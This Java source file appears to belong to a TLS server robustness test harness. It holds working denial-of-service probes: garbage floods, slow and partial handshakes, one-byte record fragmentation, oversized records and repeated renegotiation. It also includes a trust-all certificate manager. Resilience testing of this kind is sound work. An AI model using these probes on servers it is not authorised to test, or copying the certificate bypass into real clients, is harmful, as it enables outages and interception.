package dev.tern.interop.attacks;

import static dev.tern.interop.attacks.Octets.concat;
import static dev.tern.interop.attacks.Octets.int32;

import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.security.GeneralSecurityException;
import java.security.cert.X509Certificate;
import java.util.Arrays;
import java.util.List;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLEngine;
import javax.net.ssl.SSLException;
import javax.net.ssl.SSLParameters;
import javax.net.ssl.SSLSocket;
import javax.net.ssl.TrustManager;
import javax.net.ssl.X509TrustManager;

/** What can be done to a server that speaks TLS, before it has agreed on anything. */
final class TlsAttacks {
  /** A handshake has ten seconds, and some grace. */
  private static final long TIMEOUT_MILLIS = 14_000;

  private static final String[] TLS_1_2 = {"TLSv1.2"};
  private static final String[] TLS_1_3 = {"TLSv1.3"};

  private TlsAttacks() {}

  static List<Attack> all() {
    return List.of(
        new Attack("tls-garbage", "CVE-2025-24970", TlsAttacks::garbage),
        new Attack("tls-no-handshake", "slow handshake", TlsAttacks::silent),
        new Attack("tls-half-hello", "slow handshake", TlsAttacks::halfHello),
        new Attack("tls-hello-in-pieces", "CVE-2026-75595", TlsAttacks::pieces),
        new Attack("tls-huge-record", "RFC 8446 5.1", TlsAttacks::hugeRecord),
        new Attack("tls-renegotiation", "CVE-2011-1473", TlsAttacks::renegotiation));
  }

  private static Outcome garbage(Scene scene) throws IOException {
    Peer peer = scene.openBare();
    peer.flood(new byte[] {(byte) 0xde, (byte) 0xad}, 1 << 20);
    return scene.cutOff(peer);
  }

  private static Outcome silent(Scene scene) throws IOException {
    for (int i = 0; i < 100; i++) {
      scene.openBare();
    }
    return scene.cutOffWithin(scene.openBare(), TIMEOUT_MILLIS);
  }

  private static Outcome halfHello(Scene scene) throws IOException {
    byte[] hello = hello();
    Peer peer = scene.openBare();
    peer.send(Arrays.copyOf(hello, hello.length / 2));
    return scene.cutOffWithin(peer, TIMEOUT_MILLIS);
  }

  /** A record for each octet of ClientHello: the server must answer it, or refuse at once. */
  private static Outcome pieces(Scene scene) throws IOException {
    byte[] hello = hello();
    Peer peer = scene.openBare();
    for (int i = 5; i < hello.length; i++) {
      peer.send(new byte[] {22, 3, 1, 0, 1, hello[i]});
    }
    peer.await(() -> peer.isClosed() || !peer.answer().isEmpty(), 5000);
    boolean ok = peer.isClosed() || !peer.answer().isEmpty();
    return new Outcome(ok, peer.isClosed() ? "refused" : "answered", peer.endNanos());
  }

  private static Outcome hugeRecord(Scene scene) throws IOException {
    Peer peer = scene.openBare();
    peer.send(concat(new byte[] {22, 3, 1, (byte) 0xff, (byte) 0xff, 1}, int32(-1)));
    peer.flood(new byte[1000], 1000);
    return scene.cutOffWithin(peer, TIMEOUT_MILLIS);
  }

  /** Asks for one handshake after the other within a connection, RFC 9113 section 9.2.1. */
  private static Outcome renegotiation(Scene scene) throws IOException {
    try (SSLSocket tls = connect(scene.target, TLS_1_2)) {
      OutputStream out = tls.getOutputStream();
      out.write(concat(Octets.PREFACE, Octets.settings()));
      try {
        for (int i = 0; i < 10; i++) {
          tls.startHandshake();
          if (tls.getInputStream().read(new byte[4096]) < 0) {
            return Outcome.of(true, "refused: closed");
          }
        }
      } catch (IOException refused) {
        return Outcome.of(true, "refused: " + refused.getMessage());
      }
      return Outcome.of(false, "ten handshakes on one connection");
    } catch (SSLException e) {
      return Outcome.of(true, "no TLS 1.2 to be had: " + e.getMessage());
    }
  }

  /** Whether an honest client still gets its handshake and its protocol. */
  static Outcome handshake(Target target) throws IOException {
    try (SSLSocket tls = connect(target, TLS_1_3)) {
      String protocol = tls.getApplicationProtocol();
      return Outcome.of("h2".equals(protocol), "ALPN \"" + protocol + "\"");
    }
  }

  private static SSLSocket connect(Target target, String[] versions) throws IOException {
    String host = target.address().getHostString();
    Socket plain = new Socket();
    plain.connect(target.address(), 5000);
    plain.setSoTimeout(5000);
    SSLSocket tls =
        (SSLSocket)
            context()
                .getSocketFactory()
                .createSocket(plain, host, target.address().getPort(), true);
    tls.setEnabledProtocols(versions);
    tls.setSSLParameters(withAlpn(tls.getSSLParameters()));
    tls.startHandshake();
    return tls;
  }

  private static SSLParameters withAlpn(SSLParameters parameters) {
    parameters.setApplicationProtocols(new String[] {"h2"});
    return parameters;
  }

  /** One record that has a whole ClientHello. */
  private static byte[] hello() throws IOException {
    SSLEngine engine = context().createSSLEngine("localhost", 1);
    engine.setUseClientMode(true);
    engine.setSSLParameters(withAlpn(engine.getSSLParameters()));
    engine.beginHandshake();
    ByteBuffer out = ByteBuffer.allocate(engine.getSession().getPacketBufferSize());
    engine.wrap(ByteBuffer.allocate(0), out);
    return Arrays.copyOf(out.array(), out.position());
  }

  private static SSLContext context() throws IOException {
    try {
      SSLContext context = SSLContext.getInstance("TLS");
      context.init(null, new TrustManager[] {new Anybody()}, null);
      return context;
    } catch (GeneralSecurityException e) {
      throw new IOException(e);
    }
  }

  /** An attacker does not care who it is. */
  private static final class Anybody implements X509TrustManager {
    @Override
    public void checkClientTrusted(X509Certificate[] chain, String authType) {}

    @Override
    public void checkServerTrusted(X509Certificate[] chain, String authType) {}

    @Override
    public X509Certificate[] getAcceptedIssuers() {
      return new X509Certificate[0];
    }
  }
}
